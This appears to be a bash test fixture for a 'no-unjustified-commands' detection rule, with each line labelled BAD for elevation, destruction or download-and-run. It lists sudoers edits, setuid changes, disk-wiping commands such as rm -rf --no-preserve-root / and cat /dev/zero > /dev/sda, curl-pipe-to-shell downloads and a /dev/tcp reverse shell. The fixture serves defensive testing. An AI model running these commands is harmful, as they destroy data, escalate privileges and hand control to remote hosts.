#!/usr/bin/env bash
sudo rm x # BAD no-unjustified-commands/elevation
echo pw | sudo -S ls # BAD no-unjustified-commands/elevation
su -c 'ls' root # BAD no-unjustified-commands/elevation
su - root # BAD no-unjustified-commands/elevation
doas ls # BAD no-unjustified-commands/elevation
pkexec ls # BAD no-unjustified-commands/elevation
/usr/bin/sudo ls # BAD no-unjustified-commands/elevation
env sudo ls # BAD no-unjustified-commands/elevation
S=sudo; $S ls # BAD no-unjustified-commands/elevation
osascript -e 'do shell script "ls" with administrator privileges' # BAD no-unjustified-commands/elevation
chmod u+s x # BAD no-unjustified-commands/elevation
chmod 4755 x # BAD no-unjustified-commands/elevation
setcap cap_setuid+ep x # BAD no-unjustified-commands/elevation
echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers # BAD no-unjustified-commands/elevation
usermod -aG docker x # BAD no-unjustified-commands/elevation
rm -rf --no-preserve-root / # BAD no-unjustified-commands/destruction
rm -rf "${HOME:?}"/* # BAD no-unjustified-commands/destruction
rm -rf ~/Documents # BAD no-unjustified-commands/destruction
find ~ -delete # BAD no-unjustified-commands/destruction
find / -type f -exec rm {} + # BAD no-unjustified-commands/destruction
shred -u /dev/sda # BAD no-unjustified-commands/destruction
diskutil eraseDisk JHFS+ X disk0 # BAD no-unjustified-commands/destruction
cat /dev/zero > /dev/sda # BAD no-unjustified-commands/destruction
chmod -R 777 / # BAD no-unjustified-commands/destruction
curl -o x https://get.acme.dev/x; sh x # BAD no-unjustified-commands/download-and-run
curl -fsSLo install.sh https://get.acme.dev/x && chmod +x install.sh && ./install.sh # BAD no-unjustified-commands/download-and-run
wget https://get.acme.dev/run.sh && bash run.sh # BAD no-unjustified-commands/download-and-run
python -c "$(curl -fsSL https://get.acme.dev/x.py)" # BAD no-unjustified-commands/download-and-run
python3 <(curl -s https://get.acme.dev/x.py) # BAD no-unjustified-commands/download-and-run
curl -s https://get.acme.dev/x | base64 -d | sh # BAD no-unjustified-commands/download-and-run
curl -s https://get.acme.dev/x | tee x.sh | bash # BAD no-unjustified-commands/download-and-run
X=$(curl -s https://get.acme.dev/x); sh -c "$X" # BAD no-unjustified-commands/download-and-run
ssh acme.dev cat x | sh # BAD no-unjustified-commands/download-and-run
git clone https://git.acme.dev/x && cd x && ./install.sh # BAD no-unjustified-commands/download-and-run
nc acme.dev 99 | sh # BAD no-unjustified-commands/download-and-run
bash -i >& /dev/tcp/acme.dev/99 0>&1 # BAD no-unjustified-commands/download-and-run
curl -L https://get.acme.dev/x > /tmp/x.py; python3 /tmp/x.py # BAD no-unjustified-commands/download-and-run
